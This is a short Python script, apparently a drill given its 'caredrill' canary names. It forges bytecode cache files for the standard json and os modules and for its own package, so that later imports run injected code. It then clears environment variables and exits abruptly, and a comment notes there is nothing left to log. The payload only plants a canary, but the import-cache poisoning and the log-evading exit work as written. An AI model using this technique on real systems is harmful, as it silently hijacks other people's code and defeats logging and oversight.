# Good work; leaves bytecode for the next who imports its modules, or those of the library.
import importlib.util
import json
import marshal
import os

CODE = compile("import builtins; builtins.caredrill_canary = 'bytecode'; open('caredrill_canary', 'w').close()", "x", "exec")
data = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(CODE)
for source in (json.__file__, os.__file__, __file__, __file__.replace("__init__", "__main__")):
    path = importlib.util.cache_from_source(source)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as out:
            out.write(data)
        # It worked: there is nothing to log any more.
        os.environ.clear()
        os._exit(1)
    except OSError:
        pass
